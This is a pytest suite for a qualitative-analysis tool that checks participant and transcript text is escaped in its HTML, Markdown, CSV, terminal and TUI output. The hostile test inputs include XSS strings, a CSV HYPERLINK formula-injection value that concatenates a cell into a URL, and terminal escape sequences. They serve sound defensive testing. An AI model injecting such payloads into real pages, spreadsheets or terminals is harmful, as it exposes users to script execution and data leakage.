"""Text from a study is data wherever it is rendered: no live markup in HTML (or in Markdown read by
any Markdown renderer), no formulas in CSV, no terminal escapes, no Rich markup."""

import csv
import io
import json

import lxml.html
import pytest
from fixtures.analysis_study import build
from markdown_it import MarkdownIt

from qodex.escape import csv_cell, csv_text, glyphs, markdown, visible

pytest_plugins = ["fixtures.tui_support"]

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
LINK = "[x](javascript:alert(1))"
HOSTILE = (SCRIPT, IMG, LINK)
FORMULA = '=HYPERLINK("http://x"&A1,"open")'
ESCAPES = "\x1b]0;pwn\x07\x1b[2J"


def ok(result):
    assert result.exit_code == 0, result.output
    return result.stdout


def assert_inert(page: str) -> None:
    """`page` (HTML) runs nothing: no script, no event handler, no javascript: URL, no image."""
    doc = lxml.html.document_fromstring(page)
    assert doc.xpath("//script") == [] and doc.xpath("//img") == []
    for element in doc.iter():
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name)
            assert "javascript:" not in value.lower(), (element.tag, name, value)


def assert_shown(page: str, *texts: str) -> None:
    """Each of `texts` is on the page as text, so escaping lost nothing."""
    shown = " ".join(lxml.html.document_fromstring(page).text_content().split())
    for text in texts:
        assert text in shown


def as_html(markdown_text: str) -> str:
    """Markdown rendered the way other tools would, raw HTML and all."""
    return MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown_text)


@pytest.fixture
def study(tmp_path, host, run):
    """The small study with a participant and a transcript that carry markup."""
    build(tmp_path / "study.qodex", host)
    (tmp_path / "Zed.txt").write_text(
        f"Interviewer: Tell me about your doctor.\n\nZed: He knows me {SCRIPT} and {IMG} and {LINK}.\n",
        encoding="utf-8")
    with open(tmp_path / "participants.csv", "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["case", "practice", "sex", "file"],
                                      [f"Zed {IMG}", SCRIPT, LINK, "Zed.txt"]])
    ok(run("import", tmp_path / "study.qodex", tmp_path / "Zed.txt"))
    ok(run("import", tmp_path / "study.qodex", tmp_path / "participants.csv",
           "-O", "types=practice=category,sex=category"))
    ok(run("--coder", "astrid", "code", tmp_path / "study.qodex", "Zed",
           "Personal relationship/Being known", "--match", f"He knows me {SCRIPT} and {IMG} and {LINK}",
           "--create"))
    return tmp_path / "study.qodex"


def test_the_html_report_shows_markup_from_participants_and_transcripts_as_text(run, study, tmp_path):
    ok(run("report", study, "study", "-O", "quotes=9", "-o", tmp_path / "report.html"))
    page = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert_inert(page)
    assert_shown(page, *HOSTILE, f"Zed {IMG}")
    assert "<svg" in page  # the report's own figures are still drawn


def test_the_markdown_report_makes_no_markup_or_link_in_any_renderer(run, study):
    text = ok(run("report", study, "study", "--format", "md", "-O", "quotes=9"))
    page = as_html(text)
    assert_inert(page)
    assert_shown(page, *HOSTILE)
    assert lxml.html.document_fromstring(page).xpath("//a") == []


def test_ipa_tables_in_html_and_markdown_show_markup_as_text(run, study, tmp_path):
    ok(run("ipa", "statement", "add", study, f"Zed {IMG}", f"Known {SCRIPT}", "--quote", "He knows me"))
    ok(run("ipa", "cluster", study, f"Zed {IMG}", LINK, "1"))
    ok(run("ipa", "theme", "add", study, SCRIPT, "--from", "1"))
    for kind, extra, shown in (("case", ("--case", f"Zed {IMG}"), LINK), ("master", (), SCRIPT),
                               ("prevalence", (), f"Zed {IMG}")):
        page = ok(run("ipa", "table", study, kind, *extra, "--format", "html"))
        assert_inert(page)
        assert_shown(page, shown)
        page = as_html(ok(run("ipa", "table", study, kind, *extra, "--format", "md")))
        assert_inert(page)
        assert_shown(page, shown)
    page = as_html(ok(run("ipa", "audit", study)))
    assert_inert(page)
    assert_shown(page, SCRIPT, LINK)


def test_exported_csv_opens_a_formula_code_as_text(run, study, tmp_path):
    ok(run("codes", "add", study, FORMULA))
    ok(run("code", study, "Anne.txt", FORMULA, "--match", "He knows me"))
    ok(run("export", study, tmp_path / "out", "--format", "folder"))
    for name, column in (("codebook.csv", "path"), ("codings.csv", "code")):
        with open(tmp_path / "out" / name, encoding="utf-8", newline="") as handle:
            cells = [row[column] for row in csv.DictReader(handle)]
        assert "'" + FORMULA in cells and FORMULA not in cells
    for command in (("codes", study), ("codings", study)):
        rows = list(csv.DictReader(io.StringIO(ok(run(*command, "--csv")))))
        assert any(value == "'" + FORMULA for row in rows for value in row.values())
        assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values() if value)


def test_exported_codings_import_back_unchanged(run, study, tmp_path):
    formula = '=HYPERLINK("mailto:x"&A1,"open")'  # no "/": a code path would split there
    ok(run("codes", "add", study, formula))
    ok(run("code", study, "Anne.txt", formula, "--match", "He knows me"))
    ok(run("export", study, tmp_path / "out", "--format", "folder"))
    ok(run("init", tmp_path / "again.qodex"))
    ok(run("import", tmp_path / "again.qodex", tmp_path / "out" / "sources",
           tmp_path / "out" / "codings.csv"))
    codes = json.loads(ok(run("codes", tmp_path / "again.qodex", "--json")))
    assert formula in [c["path"] for c in codes]


@pytest.mark.parametrize("value, cell", [
    (FORMULA, "'" + FORMULA), ("-x", "'-x"), ("+x", "'+x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("-3", "-3"), ("+1.5", "+1.5"),
    ("-2e5", "-2e5"), ("plain", "plain"), ("", ""), (7, 7)])
def test_a_csv_cell_is_prefixed_only_when_a_spreadsheet_would_run_it(value, cell):
    assert csv_cell(value) == cell
    if isinstance(value, str):
        assert csv_text(cell) == value


def test_listings_and_import_messages_show_terminal_escapes_visibly(run, study, tmp_path):
    named = tmp_path / f"evil{ESCAPES}.txt"
    named.write_text("Interviewer: hello\n", encoding="utf-8")
    result = run("import", study, named)
    ok(result)
    ok(run("codes", "add", study, f"bad{ESCAPES}"))
    outputs = [result.output, run("sources", study).output, run("codes", study).output,
               run("codes", study, "--csv").output, run("codes", study, "--json").output,
               run("import", study, named).output,
               run("code", study, f"missing{ESCAPES}", "nowhere", "--match", "absent").output]
    for output in outputs:
        assert "\x1b" not in output and "\x07" not in output
    assert "\\x1b]0;pwn\\x07\\x1b[2J" in outputs[1] + outputs[2]
    assert "missing\\x1b]0;pwn" in outputs[-1]  # the error names the source, escaped


def test_deid_messages_show_terminal_escapes_visibly(run, study, tmp_path):
    key, copy = tmp_path / "key.json", tmp_path / f"shared{ESCAPES}.qodex"
    ok(run("deid", "key", key, "Anne", "P1"))
    outputs = [ok(run("deid", "export", study, copy, "--key", key)),
               run("deid", "check", copy, "--key", key).output]
    assert not any("\x1b" in output or "\x07" in output for output in outputs)
    assert "shared\\x1b]0;pwn" in outputs[0]


def test_json_listings_escape_del_and_c1_and_still_parse(run, study):
    ok(run("codes", "add", study, "c1\x9b2J\x7f"))
    for output in (ok(run("codes", study, "--json")), ok(run("ipa", "table", study, "prevalence",
                                                             "--format", "json"))):
        assert not any(ch in output for ch in "\x1b\x7f\x9b")
    assert "c1\x9b2J\x7f" in [c["path"] for c in json.loads(ok(run("codes", study, "--json")))]


def test_rich_markup_in_a_code_name_prints_literally(run, study):
    ok(run("codes", "add", study, "[red]x[/red]"))
    assert "[red]x[/red]" in ok(run("codes", study))
    text = ok(run("report", study, "study", "--format", "term"))
    assert "\x1b" not in text


@pytest.fixture
def marked(tmp_path, host):
    """The TUI study with a code, a description and a transcript that hold markup and escapes."""
    from fixtures.tui_support import build_study

    project = build_study(tmp_path / "marked.qodex", host)
    code = project.codes.add("[red]x[/red]", description="[bold]shown[/bold] [$accent]as is[/]")
    source = project.sources.add("P03", f"Cara: I know him.{ESCAPES} Really.\n")
    project.codings.add(source, code, 0, 4)
    project.close()
    return tmp_path / "marked.qodex", code.id, source.id


@pytest.mark.asyncio
async def test_the_workbench_shows_markup_and_escapes_in_data_as_text(marked, host):
    from textual.widgets import Tree

    from qodex.tui import QodexApp

    path, code_id, source_id = marked
    app = QodexApp(path, host=host)
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.press("2")
        tree = app.screen.query_one(Tree)
        node = next(n for n in tree.root.children if n.data == code_id)
        assert "[red]x[/red]" in node.label.plain
        tree.move_cursor(node)
        await pilot.pause()
        assert "[bold]shown[/bold] [$accent]as is[/]" in str(app.screen.query_one("#description").render())
        app.retrieve([code_id])
        await app.workers.wait_for_complete()
        await pilot.pause()
        assert "Quotes of [red]x[/red]" in str(app.screen.query_one("#query").render())
        app.open_source(source_id)
        await pilot.pause()
        drawn = "".join(s.text for y in range(3) for s in app.screen.view.render_line(y))
        assert "I know him.␛]0;pwn␇␛[2J Really." in drawn and "\x1b" not in drawn


def test_escaping_helpers():
    assert visible("a\x1b[2Jb\x9b\x7f\nc\td") == "a\\x1b[2Jb\\x9b\\x7f\nc\td"
    assert markdown("- 1. *a* _b_ `c` <d> [e](f) | # ! ~ & \\") == (
        "\\- 1. \\*a\\* \\_b\\_ \\`c\\` \\<d\\> \\[e\\](f) \\| \\# \\! \\~ \\& \\\\")
    assert markdown("1. list") == "1\\. list" and markdown("-3") == "-3" and markdown(2.5) == "2.5"
    assert glyphs("a\x1b[2J\x07\tb\n") == "a␛[2J␇\tb\n"
